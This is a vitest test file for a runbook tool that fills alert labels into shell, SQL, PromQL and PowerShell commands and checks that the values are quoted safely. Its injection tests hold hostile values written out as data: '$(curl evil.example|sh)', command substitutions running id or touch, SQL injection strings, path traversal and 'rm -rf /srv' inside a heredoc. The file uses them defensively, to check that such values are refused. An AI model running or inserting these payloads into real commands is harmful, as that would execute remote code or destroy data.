import { execFileSync } from 'node:child_process';
import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { ParsedCommand } from '../../../main/runbooks/model.ts';
import {
  assignedNames,
  fillCommand,
  noValues,
  placeholderName,
} from '../../../main/runbooks/parameters.ts';

const sh = (text: string): ParsedCommand => ({ language: 'sh', quoting: 'sh', text });
const fill = (
  text: string,
  labels: Record<string, string> = {},
  more: {
    answers?: Record<string, string>;
    document?: string;
    quoting?: ParsedCommand['quoting'];
  } = {},
) =>
  fillCommand(
    { language: '', quoting: more.quoting ?? 'sh', text },
    assignedNames(more.document ?? text),
    { labels, annotations: {}, answers: more.answers ?? {} },
  );

describe('which placeholders are filled', () => {
  const labels = {
    namespace: 'checkout',
    pod: 'api-0',
    cluster: 'eu-1',
    node: 'worker-17',
    instance: 'db-1:9100',
  };
  test.each([
    ['kubectl -n <namespace> get pods', 'kubectl -n checkout get pods'],
    ['kubectl -n <NAMESPACE> logs <pod-name>', 'kubectl -n checkout logs api-0'],
    ['kubectl -n <my-namespace> logs <podname>', 'kubectl -n checkout logs api-0'],
    ['kubectl -n $NS logs ${POD}', 'kubectl -n checkout logs api-0'],
    ['kubectl -n "$NAMESPACE" get all', 'kubectl -n "checkout" get all'],
    ['kubectl --context YOUR_CLUSTER get nodes', 'kubectl --context eu-1 get nodes'],
    ['kubectl cnpg status <cnpg_cluster>', 'kubectl cnpg status eu-1'],
    ['ping [node-name]', 'ping worker-17'],
    ['kubectl get pods -n [namespace]', 'kubectl get pods -n checkout'],
    ['ping <host>', 'ping worker-17'],
    ['kubectl -n NAMESPACE logs POD_NAME', 'kubectl -n checkout logs api-0'],
    ['kubectl exec pod/POD-NAME --namespace=NS', 'kubectl exec pod/api-0 --namespace=checkout'],
    [
      'kubectl get pods -o custom-columns=NAMESPACE:.x',
      'kubectl get pods -o custom-columns=NAMESPACE:.x',
    ],
    ['kubectl get pods -A | grep NAMESPACE', 'kubectl get pods -A | grep NAMESPACE'],
    ['POD_NAME=x; echo -n NS-1', 'POD_NAME=x; echo -n NS-1'],
  ])('fills %s', (text, expected) => {
    expect(fill(text, labels).copyText).toBe(expected);
  });

  test.each<[string, Record<string, string>, string, string]>([
    ['a label with a prefix', { cnpg_cluster: 'pg-1' }, 'x <cluster>', 'label cnpg_cluster'],
    [
      'the label of that very name before a wider one',
      { cluster: 'eu', cnpg_cluster: 'pg' },
      'x <cnpg_cluster>',
      'label cnpg_cluster',
    ],
    ['a synonym', { k8s_pod_name: 'api-0' }, 'x $POD', 'label k8s_pod_name'],
    ['another name of the same machine', { node: 'w-1' }, 'x <host>', 'label node'],
  ])('takes %s', (_what, own, text, from) => {
    expect(fill(text, own).parts).toContainEqual(expect.objectContaining({ kind: 'filled', from }));
  });

  test.each<[string, Record<string, string>, string]>([
    ['two labels with a prefix', { source_cluster: 'a', target_cluster: 'b' }, 'x <cluster>'],
    ['a label that is empty', { cluster: '' }, 'x <cluster>'],
    ['what every object has', {}, 'x <constructor> <toString>'],
  ])('does not guess from %s', (_what, own, text) => {
    expect(fill(text, own).parts.every(({ kind }) => kind !== 'filled')).toBe(true);
  });

  test.each([
    ['ssh <instance> uptime', 'ssh db-1 uptime'],
    ['ssh -l root $INSTANCE', 'ssh -l root db-1'],
    ['scp core@<instance>:/var/log/x .', 'scp core@db-1:/var/log/x .'],
    ['psql -h <instance> -c x', 'psql -h db-1 -c x'],
    ['aws rds x --db-instance-identifier <instance>', 'aws rds x --db-instance-identifier db-1'],
    ['curl http://<instance>/metrics', 'curl http://db-1:9100/metrics'],
    ['ssh bastion; curl <instance>', 'ssh bastion; curl db-1:9100'],
  ])('knows where an instance may have its port: %s', (text, copied) => {
    expect(fill(text, { instance: 'db-1:9100' }).copyText).toBe(copied);
  });

  test('leaves the port out where a host is asked', () => {
    const command = fill('ping <hostname>', { instance: 'db-1:9100' });
    expect(command.copyText).toBe('ping db-1');
    expect(command.parts).toContainEqual(
      expect.objectContaining({ kind: 'filled', from: 'label instance, port left out' }),
    );
  });

  test.each([
    ['NAMESPACE=$(kubectl get ns -o name | head -1)\nkubectl -n $NAMESPACE get pods', ''],
    ['kubectl -n $NAMESPACE get pods', 'export NAMESPACE=other'],
    ['for pod in $(kubectl get pods -o name); do kubectl delete $pod; done', ''],
    ['read -r -p "which? " pod; echo $pod', ''],
    ['kubectl get pods | while read pod rest; do echo $pod; done', ''],
    [
      "kubectl get pods -o go-template='{{ .namespace }} {{ $pod }} {{range $node := .items}}{{end}}'",
      '',
    ],
    ['echo <none>', ''],
    ["awk '{print $NF, $pod}'", ''],
    ['echo \\$NAMESPACE', ''],
    ['echo ${NAMESPACE:-default} ${POD%-*}', ''],
    ['# kubectl -n <namespace> would do it', ''],
    ['ls $HOME $PATH $DB_PASSWORD', ''],
  ])('never touches %s', (text, document) => {
    const command = fill(text, labels, { document: `${document}\n${text}` });
    expect(command.copyText).toBe(text);
    expect(command.parts.every((part) => part.kind === 'text')).toBe(true);
  });

  test('asks once for every spelling of what no label gives', () => {
    const command = fill('kubectl --context <cluster> -n $NS get pods --cluster ${CLUSTER_NAME}', {
      namespace: 'a',
    });
    const missing = command.parts.filter((part) => part.kind === 'missing');
    expect(missing.map((part) => [part.text, part.name])).toEqual([
      ['<cluster>', 'cluster'],
      ['${CLUSTER_NAME}', 'cluster'],
    ]);
    expect(command.hasMissing).toBe(true);
    expect(fill('x --context <cluster>', {}, { answers: { cluster: 'eu 1' } }).copyText).toBe(
      "x --context 'eu 1'",
    );
  });

  test.each([
    ['<my-pod-name>', 'pod'],
    ['YOUR_POD', 'pod'],
    ['NS', 'namespace'],
    ['<rds-hostname>', 'host'],
    ['<slot name>', 'slot_name'],
  ])('%s asks for %s', (text, name) => {
    expect(placeholderName(text)).toBe(name);
  });
});

describe('where a value is from', () => {
  const sources = {
    labels: { cluster: 'of-the-label' },
    annotations: { cluster: 'of-the-annotation', zone: 'of-the-annotation' },
    answers: { cluster: 'typed' },
    earlier: {
      cluster: { value: 'earlier', from: 'your answer in “Disk”' },
      zone: { value: 'earlier', from: 'your answer in “Disk”' },
      region: { value: 'earlier', from: 'your answer in “Disk”' },
    },
    defaults: {
      CLUSTER_NAME: 'default',
      zone: 'default',
      region: 'default',
      'my-topic': 'default',
    },
  };
  const from = (name: string, change: object = {}) =>
    fillCommand(sh(`x <${name}>`), new Set(), { ...sources, ...change }).parts.find(
      ({ kind }) => kind === 'filled',
    );

  test('the nearest to this run wins, and each says where it is from', () => {
    expect(from('cluster')).toMatchObject({ value: 'typed', from: 'you' });
    expect(from('cluster', { answers: {} })).toMatchObject({
      value: 'of-the-label',
      from: 'label cluster',
    });
    expect(from('zone')).toMatchObject({ from: 'annotation zone' });
    expect(from('region')).toMatchObject({ value: 'earlier', from: 'your answer in “Disk”' });
    expect(from('topic')).toMatchObject({ value: 'default', from: 'your default' });
    const bare = { answers: {}, labels: {}, annotations: {}, earlier: {} };
    expect(from('cluster', bare)).toMatchObject({ from: 'your default' });
  });

  test('a value that looks like an attack is shown with its origin, and not put in', () => {
    const value = '$(curl evil.example|sh)';
    const [part] = fill('kubectl logs `echo <pod>`', { pod: value }).parts.filter(
      ({ kind }) => kind === 'missing',
    );
    expect(part).toMatchObject({
      kind: 'missing',
      text: '<pod>',
      why: 'it cannot be quoted safely in this place',
      refused: { value, from: 'label pod' },
    });
    const huge = fill('x <pod>', { pod: 'y'.repeat(100_000) }).parts;
    expect(JSON.stringify(huge).length).toBeLessThan(3_000);
  });

  test('a default is no more trusted than a label: the file with it may be shared', () => {
    const values = { ...noValues, defaults: { pod: '--all' } };
    expect(fillCommand(sh('kubectl delete pod <pod>'), new Set(), values).hasMissing).toBe(true);
  });
});

describe('the templates of alerts', () => {
  const labels = { pod: 'api-0', namespace: 'shop', instance: 'db-1:9100' };
  test.each([
    ['kubectl -n {{ $labels.namespace }} logs {{$labels.pod}}', 'kubectl -n shop logs api-0'],
    ['echo "{{ $labels.instance }}"', 'echo "db-1:9100"'],
    ['up{instance="{{ $labels.instance }}"}', 'up{instance="db-1:9100"}'],
  ])('are filled where a runbook uses them: %s', (text, filled) => {
    const quoting = text.startsWith('up') ? 'promql' : 'sh';
    expect(fill(text, labels, { quoting }).copyText).toBe(filled);
  });

  test.each([
    "kubectl get pods -o go-template='{{ $labels.pod }}'",
    "docker inspect -f '{{ $labels.pod }}' x",
    "docker ps --format '{{ $labels.pod }}'",
    "kubectl get pod -o template --template='{{ $labels := .metadata.labels }}{{ $labels.pod }}'",
    "kubectl get pod -o go-template='{{ .pod }} {{ range .items }}'",
  ])('are left alone in %s', (text) => expect(fill(text, labels).copyText).toBe(text));

  test('are quoted like every other placeholder', () => {
    expect(fill('echo {{ $labels.pod }}', { pod: "a'b; id" }).copyText).toBe(`echo 'a'\\''b; id'`);
    expect(fill('ssh h "ls {{ $labels.pod }}"', { pod: 'a; id' }).hasMissing).toBe(true);
  });
});

/** What the shell makes of the command: its arguments, exactly. */
function argumentsOf(command: string): string[] {
  const probe = `probe() { for a in "$@"; do printf '%s\\0' "$a"; done; }\n${command}`;
  const out = execFileSync('/bin/sh', ['-c', probe], {
    encoding: 'utf8',
    env: { PATH: '/nowhere' },
  });
  return out.split('\0').slice(0, -1);
}

const hostile = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({
    unit: fc.constantFrom(
      ...`'"\`$(){}[]<>|&;!*?~#\\ \n\t\r-=%@/.,ax0é😀`.split(''),
      '$(touch /tmp/x)',
      '`id`',
      "'; id; '",
      '"; id; "',
      '${HOME}',
      '\u202e',
      '\u0000',
      '\u001b',
      '$HOME',
      '--all',
      '../',
      '$$',
      '\\\n',
    ),
    maxLength: 12,
  }),
);

describe('hostile values', () => {
  test('reach a program unchanged through a real shell, or are refused in sight', () => {
    const places = [
      (p: string) => `probe ${p}`,
      (p: string) => `probe "${p}"`,
      (p: string) => `probe '${p}'`,
      (p: string) => `probe pre/${p}`,
      (p: string) => `probe "pre ${p} post"`,
      (p: string) => `probe 'pre ${p} post'`,
      (p: string) => `true; probe "$(probe2() { printf %s "$1"; }; probe2 ${p})"`,
      (p: string) => `probe \\\n  --name=${p} # ${p}`,
    ];
    const expected = [
      (v: string) => v,
      (v: string) => v,
      (v: string) => v,
      (v: string) => `pre/${v}`,
      (v: string) => `pre ${v} post`,
      (v: string) => `pre ${v} post`,
      // `$(…)` itself drops trailing newlines.
      (v: string) => v.replace(/\n+$/, ''),
      (v: string) => `--name=${v}`,
    ];
    let passed = 0;
    fc.assert(
      fc.property(hostile, fc.nat({ max: places.length - 1 }), (value, place) => {
        const command = fill(places[place]!('<value>'), { value });
        const isFilled = command.parts.some((part) => part.kind === 'filled');
        if (isFilled) passed++;
        const isRight = isFilled
          ? JSON.stringify(argumentsOf(command.copyText)) ===
            JSON.stringify([expected[place]!(value)])
          : command.hasMissing;
        expect(isRight).toBe(true);
      }),
      { numRuns: 400 },
    );
    expect(passed).toBeGreaterThan(100);
  });

  test.each([
    ['a NUL', 'a\u0000b', 'control characters'],
    ['an escape sequence', 'a\u001b[201~b', 'control characters'],
    ['a text that reads backwards', 'a\u202eb', 'invisible characters'],
    ['an option', '--all-namespaces', 'read as an option'],
    ['a path upwards', '../../etc', 'climbs'],
    ['a value of 100 kB', 'a b'.repeat(40_000), 'too long'],
  ])('%s is refused and the reason is told', (_what, value, why) => {
    const command = fill('kubectl delete pod "<pod>"', { pod: value });
    expect(command.hasMissing).toBe(true);
    expect(command.copyText).toBe('kubectl delete pod "<pod>"');
    expect(command.parts).toContainEqual(
      expect.objectContaining({ kind: 'missing', why: expect.stringContaining(why) }),
    );
  });

  test.each([
    'ssh db-1 "rm <file>"',
    'ssh <file>',
    "bash -c 'cat <file>'",
    'eval cat <file>',
    'watch kubectl -n <file> get pods',
    "psql -c 'select * from <file>'",
    `curl -d '{"a":"<file>"}' localhost`,
    `kubectl get pods -o jsonpath='{.items[?(@.name=="<file>")]}'`,
    'cat <<EOF\n<file>\nEOF',
    'cat `basename <file>`',
    'echo ${X:-<file>}',
    "echo 'never closed <file>",
    '<file> --version',
    'true | <file> --version',
  ])('are not filled into code inside code: %s', (text) => {
    expect(fill(text, { file: 'x; touch /tmp/y' }).hasMissing).toBe(true);
  });

  test('are asked for where they are a line of a here-document of their own, which they could end', () => {
    const text = 'cat <<EOF\n<file>\nrm -rf /srv\nEOF';
    expect(fill(text, { file: 'EOF' }).hasMissing).toBe(true);
    expect(fill(text.replace('<file>', '<file>$POD'), { file: 'EO', pod: 'F' }).hasMissing).toBe(
      true,
    );
  });

  test.each([
    ['cat <<EOF\nname: <service>\nEOF', 'cat <<EOF\nname: checkout-api\nEOF'],
    ['cat <<EOF\nname: $SERVICE\nEOF', 'cat <<EOF\nname: checkout-api\nEOF'],
    ["cat <<'EOF'\nname: <service> $SERVICE\nEOF", "cat <<'EOF'\nname: checkout-api $SERVICE\nEOF"],
    ['a <<EOF\nb\nEOF\nls <service>', 'a <<EOF\nb\nEOF\nls checkout-api'],
    ['echo `basename $SERVICE`', 'echo `basename checkout-api`'],
    ["echo `printf '$SERVICE'` $'$SERVICE'", "echo `printf '$SERVICE'` $'$SERVICE'"],
  ])('harmless values are filled where the shell reads them: %s', (text, filled) => {
    expect(fill(text, { service: 'checkout-api' })).toMatchObject({
      copyText: filled,
      hasMissing: false,
    });
  });

  test('harmless values are filled into code inside code', () => {
    expect(
      fill('ssh db-1 "sudo systemctl restart <service>"', { service: 'checkout-api' }).copyText,
    ).toBe('ssh db-1 "sudo systemctl restart checkout-api"');
  });
});

describe('other languages', () => {
  test.each([
    [
      'sql',
      "SELECT * FROM x WHERE name = '<service>'",
      "o'hare",
      "SELECT * FROM x WHERE name = 'o''hare'",
    ],
    [
      'sql',
      'SELECT * FROM x WHERE name = <service>',
      "o'hare",
      "SELECT * FROM x WHERE name = 'o''hare'",
    ],
    ['sql', 'SELECT pg_terminate_backend(<pid>)', '4711', 'SELECT pg_terminate_backend(4711)'],
    ['sql', 'ANALYZE <table>', 'orders', 'ANALYZE orders'],
    ['promql', 'up{job="<job>"}', 'a"b\\c\nd', 'up{job="a\\"b\\\\c\\nd"}'],
    ['promql', 'up{job=<job>}', 'a"b', 'up{job="a\\"b"}'],
    ['json', '{"name": "<service>", "n": <count>}', 'a"b', '{"name": "a\\"b", "n": <count>}'],
    ['powershell', 'Get-Pod -Name <pod>', "a'b’c", "Get-Pod -Name 'a''b’’c'"],
    ['powershell', 'Get-Pod -Name "<pod>"', 'a"$(b)`', 'Get-Pod -Name "a`"`$(b)``"'],
    ['other', 'Feature.disable(:<service>)', 'checkout', 'Feature.disable(:checkout)'],
  ] as const)('%s: %s', (quoting, text, value, expected) => {
    const labels = { service: value, job: value, pod: value, pid: value, table: value };
    expect(fill(text, labels, { quoting }).copyText).toBe(expected);
  });

  test.each([
    ['sql', 'DROP TABLE <table>', 'x; drop table y'],
    ['sql', "SELECT '<service>'", "\\' or 1=1 --"],
    ['promql', 'up{job=~"<job>"}', '.*'],
    ['other', 'puts "<service>"', '#{`id`}'],
    ['powershell', 'iex "<service>"', 'a;b'],
  ] as const)('%s refuses what it cannot quote: %s', (quoting, text, value) => {
    const labels = { service: value, job: value, table: value };
    expect(fill(text, labels, { quoting }).hasMissing).toBe(true);
  });
});

test.each([
  ['GET https://a.example/health', 'get'],
  ['# a look\nget https://a.example/health', 'get'],
  ['https://a.example/health', 'get'],
  ['POST https://a.example/disks', null],
  ['// grows it\n\n  delete https://a.example/disks/1', null],
])('of http only what is sent from here is offered: %s', (text, runs) => {
  expect(fill(text, {}, { quoting: 'http' }).runs).toBe(runs);
});

test('any text is a command that can be shown', () => {
  fc.assert(
    fc.property(
      fc.string({
        unit: fc.constantFrom(...`'"\`$(){}<>|&;#\\ \nabXY=`.split(''), '<pod>', '$POD', '<<EOF'),
        maxLength: 60,
      }),
      (text) => {
        const command = fillCommand(sh(text), new Set(), { ...noValues, labels: { pod: 'x y' } });
        const shown = command.parts.map((part) => part.text).join('');
        expect(command.copyText).toBe(shown);
        const original = command.parts
          .map((part) => (part.kind === 'filled' ? '' : part.text))
          .join('');
        expect(original.length).toBeLessThanOrEqual(text.length);
      },
    ),
    { numRuns: 500 },
  );
});
